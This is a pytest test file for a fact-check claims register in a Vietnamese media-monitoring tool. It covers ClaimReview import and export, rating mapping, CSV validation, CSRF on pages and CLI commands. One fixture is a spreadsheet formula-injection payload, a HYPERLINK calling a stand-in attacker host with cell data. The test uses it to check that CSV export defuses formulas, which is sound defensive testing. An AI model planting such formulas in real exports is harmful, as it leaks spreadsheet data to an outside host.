"""The claims register: storage, the review listener, the API, the pages, the CLI."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import httpx
import pytest

from api.claims_feed import ClaimsFeed
from api.security import Principal
from index.claim_exchange import Reading, map_rating, read_rating
from index.claims import (
    AUTO,
    ClaimDraft,
    ClaimNotFound,
    ClaimPatch,
    ClaimRegister,
    SuggestionStatus,
    Verdict,
)
from mediawatch.audit import AuditLog
from mediawatch.model import (
    ClaimLink,
    OfficialResponse,
    ReviewAction,
    ReviewCommand,
    ReviewOutcome,
    Role,
    SourceTier,
)
from tests.conftest import ADMIN_PASSWORD, ADMIN_TOKEN, login
from tests.factories import make_document

DATA = Path(__file__).parent / "data"
RUMOUR_TITLE = "Hồ Tuyền Lâm sắp bị lấp để xây khu đô thị cao tầng"
RUMOUR_TEXT = "Một tập đoàn đã được giao đất, người dân Đà Lạt chia sẻ để phản đối việc lấp hồ."
REVIEWER = Principal("reviewer1", Role.REVIEWER, "token", "127.0.0.1")


@pytest.fixture
def register(settings) -> ClaimRegister:
    return ClaimRegister(settings.claims_path)


@pytest.fixture
def feed(register, store, settings) -> ClaimsFeed:
    return ClaimsFeed(register, store, settings, AuditLog(settings.audit_path))


def test_the_same_claim_twice_is_one_claim_and_every_change_moves_the_version(register):
    draft = ClaimDraft(statement="Giá điện tăng gấp đôi", verdict=Verdict.FALSE)
    before = register.version()
    claim, created = register.create(draft, "an")
    again, created_again = register.create(
        draft.model_copy(update={"statement": "GIÁ ĐIỆN  tăng gấp đôi!"}), "binh"
    )
    assert created and not created_again and again.id == claim.id
    assert register.version() > before
    version = register.version()
    register.link(claim.id, "web:1", "some text", AUTO, 0.9)
    assert register.version() > version
    assert register.claims_of_item("web:1") == [claim.id]
    assert register.unlink(claim.id, "web:1") and not register.unlink(claim.id, "web:1")
    with pytest.raises(ClaimNotFound):
        register.link("cl-missing", "web:1", "", "an")
    patched = register.update(claim.id, ClaimPatch(statement="Giá điện tăng gấp ba"), "an")
    assert patched.statement_folded == "gia dien tang gap ba"


def test_a_suggestion_accepted_links_the_item_and_rejected_does_not(register):
    claim, _ = register.create(ClaimDraft(statement="Đèo Prenn đóng cửa", verdict="false"), "an")
    assert register.suggest(claim.id, "web:2", "text", 0.5)
    assert not register.suggest(claim.id, "web:2", "text", 0.5)  # offered once
    register.suggest(claim.id, "web:3", "text", 0.6)
    assert register.decide_suggestion(claim.id, "web:2", True, "an").status == "confirmed"
    assert register.decide_suggestion(claim.id, "web:3", False, "an").status == "rejected"
    stored = register.get(claim.id)
    assert [i.item_id for i in stored.items] == ["web:2"]
    assert {s.item_id: s.status for s in stored.suggestions} == {
        "web:2": SuggestionStatus.CONFIRMED,
        "web:3": SuggestionStatus.REJECTED,
    }


def test_a_false_decision_creates_a_claim_and_suggests_recent_repeats(feed, store, settings):
    judged = make_document("https://fb.example/p/1", RUMOUR_TITLE, RUMOUR_TEXT)
    repeat = make_document(
        "https://forum.example/t/2",
        "Nghe noi ho Tuyen Lam sap bi lap de xay khu do thi cao tang",
        "Ai biet gi thi chia se voi, Da Lat se mat mot canh dep nua roi.",
        tier=SourceTier.SOCIAL,
    )
    other = make_document(
        "https://press.example/a/3",
        "Giải chạy quanh hồ Tuyền Lâm",
        "Hơn 2.000 vận động viên tham gia giải chạy địa hình quanh hồ Tuyền Lâm cuối tuần.",
    )
    store.upsert([judged, repeat, other])
    command = ReviewCommand(
        action=ReviewAction.DECIDE,
        outcome=ReviewOutcome.FALSE,
        note="UBND tỉnh đã bác bỏ",
        evidence=["https://lamdong.gov.vn/bac-bo"],
    )
    feed(judged, command, REVIEWER, f"{judged.id}:1")
    (claim_id,) = feed.register.claims_of_item(judged.id)
    claim = feed.register.get(claim_id)
    assert claim.statement == RUMOUR_TITLE and claim.verdict is Verdict.FALSE
    assert claim.evidence == ["UBND tỉnh đã bác bỏ", "https://lamdong.gov.vn/bac-bo"]
    assert [(i.item_id, i.linked_by) for i in claim.items] == [(judged.id, "reviewer1")]
    assert [s.item_id for s in claim.suggestions] == [repeat.id]
    actions = [(e.action, e.target) for e in feed.audit_log.entries()]
    assert ("claim.create", claim_id) in actions and ("claim.link", claim_id) in actions

    # A second item, already linked to the claim, judged misleading: the claim grows.
    feed.register.decide_suggestion(claim_id, repeat.id, True, "reviewer2")
    feed(
        repeat,
        ReviewCommand(action=ReviewAction.DECIDE, outcome="misleading", note="Bản sao"),
        REVIEWER,
        f"{repeat.id}:1",
    )
    assert feed.register.claims_of_item(repeat.id) == [claim_id]
    assert feed.register.get(claim_id).evidence[-1] == "Bản sao"
    assert len(feed.register.search(None, 10, 0)[1]) == 1

    # The official response becomes the rebuttal; reopening the item takes it off.
    response = OfficialResponse(url="https://lamdong.gov.vn/tra-loi", agency="UBND tỉnh")
    feed(judged, ReviewCommand(action=ReviewAction.RESPOND, response=response), REVIEWER, "j:2")
    assert feed.register.get(claim_id).rebuttal == response
    feed(judged, ReviewCommand(action=ReviewAction.REOPEN, reason="Nhầm tin"), REVIEWER, "j:3")
    assert judged.id not in {i.item_id for i in feed.register.get(claim_id).items}
    (unlink,) = feed.audit_log.entries(action="claim.unlink")
    assert unlink.target == claim_id and unlink.detail["reason"] == "Nhầm tin"


def test_other_decisions_leave_the_register_alone(feed, store):
    item = make_document("https://fb.example/p/9", RUMOUR_TITLE, RUMOUR_TEXT)
    store.upsert([item])
    feed(item, ReviewCommand(action=ReviewAction.DECIDE, outcome="accurate"), REVIEWER, "i:1")
    feed(item, ReviewCommand(action=ReviewAction.CLAIM), REVIEWER, "i:2")
    assert feed.register.search(None, 10, 0)[0] == 0


@pytest.mark.parametrize(
    ("rating", "verdict"),
    [
        ("False", Verdict.FALSE),
        ("Sai sự thật", Verdict.FALSE),
        ("Mostly False", Verdict.MISLEADING),
        ("Gây hiểu lầm", Verdict.MISLEADING),
        ("True", None),
        ("Đúng", None),
        ("Not false", None),
        ("NOT FALSE.", None),
        ("Không sai", None),
        ("Khong sai", None),
        ("Không phải tin giả", None),
        ("khong phai tin gia", None),
        ("Chưa chắc", None),
        ("Không đúng", Verdict.FALSE),
        ("Tin giả", Verdict.FALSE),
        ("Pants on Fire!", Verdict.FALSE),
    ],
)
def test_publishers_ratings_map_to_our_verdicts(rating, verdict):
    assert map_rating(rating) == verdict


@pytest.mark.parametrize(
    ("rating", "reading"),
    [
        ("Not false", Reading.TRUE),
        ("Không sai", Reading.TRUE),
        ("Không phải tin giả", Reading.TRUE),
        ("Chưa chắc", Reading.UNPROVEN),
        ("Sai một phần", Reading.MISLEADING),
        ("Tin này sai bét, đừng tin", None),  # a sentence, not a rating we know
        ("Hoàn toàn không sai", None),
    ],
)
def test_ratings_are_read_whole_so_negations_are_not_their_opposite(rating, reading):
    assert read_rating(rating) is reading


def test_ratings_not_false_are_never_registered_and_unknown_ones_are_counted(api_client, tmp_path):
    """The reviewed claims of the issue: publishers that said 'not false' in three ways."""

    def review(statement: str, rating: dict) -> dict:
        return {
            "@context": "https://schema.org",
            "@type": "ClaimReview",
            "claimReviewed": statement,
            "author": {"@type": "Organization", "name": "Báo Kiểm chứng"},
            "url": f"https://kiemchung.example.vn/{len(statement)}-{rating}",
            "reviewRating": {"@type": "Rating", **rating},
        }

    reviews = [
        review("Đà Lạt miễn phí gửi xe dịp Tết", {"alternateName": "Not false"}),
        review("Lâm Đồng tăng lương tối thiểu vùng", {"alternateName": "Không sai"}),
        review("Cao tốc Tân Phú Bảo Lộc thông xe", {"alternateName": "Không phải tin giả"}),
        review("Hồ Xuân Hương bị lấp", {"alternateName": "Tin giả"}),
        review("Giá điện tăng gấp đôi từ tháng sau", {"alternateName": "Hơi sai sai"}),
        review("Đèo Prenn đóng cửa cả năm", {"alternateName": "Chưa chắc"}),
        review("Đà Lạt cấm xe máy vào trung tâm", {"ratingValue": 1, "bestRating": 5}),
        review("Bảo Lộc thành phố trực thuộc trung ương", {"ratingValue": 5, "bestRating": 5}),
        review("Lâm Đồng sáp nhập ba tỉnh", {"ratingValue": 9, "bestRating": 5}),
    ]
    body = json.dumps(reviews, ensure_ascii=False).encode()
    response = api_client.post(
        "/api/claims/import", content=body, headers={"Content-Type": "application/ld+json"}
    )
    assert response.status_code == 200, response.text
    assert response.json() == {
        "created": 2,
        "unchanged": 0,
        "skipped": 5,
        "unknown": 2,
        "unknown_ratings": ["Hơi sai sai", "9"],
    }
    registered = {c["statement"] for c in api_client.get("/api/claims").json()["claims"]}
    assert registered == {"Hồ Xuân Hương bị lấp", "Đà Lạt cấm xe máy vào trung tâm"}

    from typer.testing import CliRunner

    from mediawatch.cli import app

    file = tmp_path / "reviews.jsonld"
    file.write_bytes(body)
    env = {"MEDIAWATCH_DATA_DIR": str(tmp_path / "cli")}
    result = CliRunner().invoke(app, ["claims", "import", str(file)], env=env)
    assert result.exit_code == 0, result.output
    assert "Đã nhập 2 khẳng định mới" in result.output and "5 bỏ qua" in result.output
    assert "2 bỏ qua vì không hiểu đánh giá" in result.output and "Hơi sai sai" in result.output


def test_claimreview_import_is_idempotent_and_exports_our_claims(api_client, live_api, store):
    sample = (DATA / "claimreview_sample.jsonld").read_bytes()
    headers = {"Content-Type": "application/ld+json"}
    first = api_client.post("/api/claims/import", content=sample, headers=headers)
    assert first.status_code == 200, first.text
    assert first.json() == {
        "created": 2,
        "unchanged": 0,
        "skipped": 1,
        "unknown": 0,
        "unknown_ratings": [],
    }
    again = api_client.post("/api/claims/import", content=sample, headers=headers)
    assert again.json() | {"unchanged": 2, "created": 0} == again.json()
    listed = api_client.get("/api/claims", params={"q": "thu hoi dat"}).json()
    (imported,) = listed["claims"]
    assert imported["origin"] == "import:Trung tâm Xử lý tin giả Việt Nam"
    assert imported["rating"] == "Sai sự thật" and imported["verdict"] == "false"
    assert imported["url"] == "https://kiemchung.example.vn/2026/03/thu-hoi-dat-lac-duong"
    electricity = api_client.get("/api/claims", params={"q": "gia dien"}).json()["claims"][0]
    assert electricity["verdict"] == "misleading"  # ratingValue 2 of 1..5

    # Ours: created by hand, an item linked, exported as ClaimReview.
    item = make_document("https://fb.example/p/5", RUMOUR_TITLE, RUMOUR_TEXT)
    store.upsert([item])
    created = api_client.post("/api/claims", json={"statement": RUMOUR_TITLE, "verdict": "false"})
    assert created.status_code == 201, created.text
    claim_id = created.json()["id"]
    assert api_client.post(f"/api/claims/{claim_id}/items/{item.id}").status_code == 200
    exported = api_client.get("/api/claims/export", params={"format": "claimreview"})
    assert exported.headers["content-type"].startswith("application/ld+json")
    (review,) = exported.json()
    assert review["@context"] == "https://schema.org" and review["@type"] == "ClaimReview"
    assert review["claimReviewed"] == RUMOUR_TITLE
    assert review["reviewRating"]["alternateName"] == "Sai sự thật"
    assert review["author"]["name"] == "Sở Thông tin và Truyền thông tỉnh Lâm Đồng"
    assert review["url"].endswith(f"/claims/{claim_id}")
    assert review["itemReviewed"]["appearance"] == [
        {"@type": "CreativeWork", "url": "https://fb.example/p/5"}
    ]
    csv_export = api_client.get("/api/claims/export", params={"format": "csv"})
    assert csv_export.text.count("\n") == 4  # header and three claims


def test_a_malformed_csv_is_refused_whole_naming_the_row(api_client):
    body = (
        "statement,verdict,publisher,url\n"
        "Giá điện tăng gấp đôi,false,Báo A,https://a.example/1\n"
        ",false,Báo A,https://a.example/2\n"
    )
    response = api_client.post(
        "/api/claims/import", content=body.encode(), headers={"Content-Type": "text/csv"}
    )
    assert response.status_code == 422
    assert "dòng 3" in response.json()["detail"] and "statement" in response.json()["detail"]
    assert api_client.get("/api/claims").json()["total"] == 0
    bad_json = api_client.post(
        "/api/claims/import",
        content=json.dumps([{"statement": "x", "verdict": "maybe", "publisher": "B"}]),
        headers={"Content-Type": "application/json"},
    )
    assert bad_json.status_code == 422 and "mục 1" in bad_json.json()["detail"]
    assert "verdict" in bad_json.json()["detail"]
    no_publisher = api_client.post(
        "/api/claims/import",
        content=b"statement,rating\nGia dien tang,False\n",
        headers={"Content-Type": "text/csv"},
    )
    assert no_publisher.status_code == 422 and "publisher" in no_publisher.json()["detail"]
    ok = api_client.post(
        "/api/claims/import",
        params={"publisher": "Báo B"},
        content=b"statement,rating\nGia dien tang gap doi,False\n",
        headers={"Content-Type": "text/csv"},
    )
    assert ok.json()["created"] == 1
    assert api_client.post("/api/claims/import", content=b"{nope").status_code == 422


def test_links_suggestions_and_edits_are_audited_and_missing_things_are_404(
    api_client, live_api, store, settings
):
    item = make_document("https://fb.example/p/7", RUMOUR_TITLE, RUMOUR_TEXT)
    store.upsert([item])
    claim_id = api_client.post(
        "/api/claims", json={"statement": "Đèo Prenn đóng cửa ba tháng", "verdict": "false"}
    ).json()["id"]
    ClaimRegister(settings.claims_path).suggest(claim_id, item.id, "text", 0.5)
    accepted = api_client.post(
        f"/api/claims/{claim_id}/suggestions/{item.id}", json={"accept": True}
    )
    assert accepted.status_code == 200 and accepted.json()["status"] == "confirmed"
    assert api_client.delete(f"/api/claims/{claim_id}/items/{item.id}").status_code == 200
    assert api_client.delete(f"/api/claims/{claim_id}/items/{item.id}").status_code == 404
    patched = api_client.patch(
        f"/api/claims/{claim_id}",
        json={"rebuttal": {"url": "https://sgtvt.example/bac-bo", "agency": "Sở GTVT"}},
    )
    assert patched.json()["rebuttal"]["agency"] == "Sở GTVT"
    assert api_client.patch(f"/api/claims/{claim_id}", json={"statement": ""}).status_code == 422
    assert api_client.get("/api/claims/cl-nope").status_code == 404
    assert api_client.post(f"/api/claims/{claim_id}/items/web:nope").status_code == 404
    assert (
        api_client.post("/api/claims/cl-nope/suggestions/x", json={"accept": False}).status_code
        == 404
    )
    actions = [e.action for e in AuditLog(settings.audit_path).entries()]
    for action in ("claim.create", "claim.suggestion.accept", "claim.unlink", "claim.update"):
        assert action in actions
    assert httpx.get(f"{live_api.url}/api/claims").status_code == 401


def test_claim_pages_show_the_register_and_settle_suggestions_with_csrf(live_api, settings, store):
    register = ClaimRegister(settings.claims_path)
    claim, _ = register.create(ClaimDraft(statement=RUMOUR_TITLE, verdict="false"), "an")
    item = make_document("https://fb.example/p/8", "Hồ Tuyền Lâm bị lấp?", RUMOUR_TEXT)
    match = ClaimLink(claim_id=claim.id, similarity=0.55, status="suggested")
    store.upsert([item.model_copy(update={"claim_matches": [match]})])
    register.suggest(claim.id, item.id, "text", 0.55)
    with httpx.Client(base_url=live_api.url, timeout=30) as client:
        assert login(client, "admin", ADMIN_PASSWORD).status_code in (200, 303)
        listing = client.get("/claims", params={"q": "tuyen lam"})
        assert RUMOUR_TITLE in listing.text
        item_page = client.get(f"/items/{item.id}")
        assert f'href="/claims/{claim.id}"' in item_page.text and "gợi ý, 0.55" in item_page.text
        page = client.get(f"/claims/{claim.id}")
        assert "Hồ Tuyền Lâm bị lấp?" in page.text and "Đúng, gắn vào" in page.text
        forged = client.post(
            f"/claims/{claim.id}/suggestions/{item.id}", data={"csrf": "x", "accept": "true"}
        )
        assert forged.status_code == 403
        csrf = page.text.split('name="csrf" value="')[1].split('"')[0]
        done = client.post(
            f"/claims/{claim.id}/suggestions/{item.id}", data={"csrf": csrf, "accept": "true"}
        )
        assert done.status_code == 303
    assert [i.item_id for i in register.get(claim.id).items] == [item.id]
    assert ADMIN_TOKEN  # the admin signs in with a password here, not a token


def test_the_command_line_imports_and_exports_the_register(tmp_path):
    import structlog
    from typer.testing import CliRunner

    from mediawatch.cli import app

    saved = structlog.get_config()  # the command points logging at the runner's stream
    try:
        _run_claims_commands(tmp_path, CliRunner(), app)
    finally:
        structlog.configure(**saved)


def _run_claims_commands(tmp_path, runner, app) -> None:
    env = {"MEDIAWATCH_DATA_DIR": str(tmp_path / "data")}
    sample = str(DATA / "claimreview_sample.jsonld")
    imported = runner.invoke(app, ["claims", "import", sample], env=env)
    assert imported.exit_code == 0, imported.output
    assert "Đã nhập 2 khẳng định mới" in imported.output
    again = runner.invoke(app, ["claims", "import", sample], env=env)
    assert "Đã nhập 0 khẳng định mới; 2 đã có" in again.output
    bad = tmp_path / "bad.csv"
    bad.write_text("statement,verdict\n,false\n", encoding="utf-8")
    refused = runner.invoke(app, ["claims", "import", str(bad)], env=env)
    assert refused.exit_code == 2 and "dòng 2" in refused.output
    exported = runner.invoke(app, ["claims", "export", "--format", "csv"], env=env)
    assert exported.exit_code == 0 and exported.output.count("\n") == 3
    assert AuditLog(tmp_path / "data" / "audit.db").entries(action="claim.import")


def test_evidence_added_at_once_from_two_workers_is_all_kept(settings):
    """Two processes (two register handles on one file) extend the same claim together."""
    from concurrent.futures import ThreadPoolExecutor

    first, second = ClaimRegister(settings.claims_path), ClaimRegister(settings.claims_path)
    claim, _ = first.create(ClaimDraft(statement=RUMOUR_TITLE, verdict=Verdict.FALSE), "an")
    links = [f"https://evidence.example/{n}" for n in range(40)]
    with ThreadPoolExecutor(max_workers=4) as pool:
        for n, link in enumerate(links):
            pool.submit((first if n % 2 else second).add_evidence, claim.id, [link], "an")
    assert sorted(first.get(claim.id).evidence) == sorted(links)


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'


def test_claims_csv_export_defuses_formulas_in_the_api_and_the_cli(api_client, settings, tmp_path):
    register = ClaimRegister(settings.claims_path)
    register.create(
        ClaimDraft(statement=FORMULA, verdict="false", evidence=["+1 bằng chứng"]), "an"
    )
    exported = api_client.get("/api/claims/export", params={"format": "csv"})
    assert exported.status_code == 200
    (row,) = csv.DictReader(io.StringIO(exported.text))
    assert row["statement"] == "'" + FORMULA and row["evidence"] == "'+1 bằng chứng"

    from typer.testing import CliRunner

    from mediawatch.cli import app

    out = tmp_path / "claims.csv"
    env = {"MEDIAWATCH_DATA_DIR": str(settings.data_dir)}
    result = CliRunner().invoke(
        app, ["claims", "export", "--format", "csv", "-o", str(out)], env=env
    )
    assert result.exit_code == 0, result.output
    (row,) = csv.DictReader(out.open(encoding="utf-8"))
    assert row["statement"] == "'" + FORMULA


@pytest.mark.parametrize("publisher", [5, {"name": "Báo A"}, ["Báo A"], True])
def test_a_publisher_that_is_not_text_is_refused_naming_the_field_and_row(
    api_client, tmp_path, publisher
):
    rows = [
        {"statement": "Giá điện tăng gấp đôi", "verdict": "false", "publisher": "Báo A"},
        {"statement": "Đèo Prenn đóng cửa", "verdict": "false", "publisher": publisher},
    ]
    body = json.dumps(rows, ensure_ascii=False).encode()
    response = api_client.post(
        "/api/claims/import", content=body, headers={"Content-Type": "application/json"}
    )
    assert response.status_code == 422, response.text
    detail = response.json()["detail"]
    assert "mục 2" in detail and "publisher" in detail
    assert api_client.get("/api/claims").json()["total"] == 0

    from typer.testing import CliRunner

    from mediawatch.cli import app

    file = tmp_path / "claims.json"
    file.write_bytes(body)
    env = {"MEDIAWATCH_DATA_DIR": str(tmp_path / "data")}
    result = CliRunner().invoke(app, ["claims", "import", str(file)], env=env)
    assert result.exit_code == 2, result.output
    assert "mục 2" in result.output and "publisher" in result.output
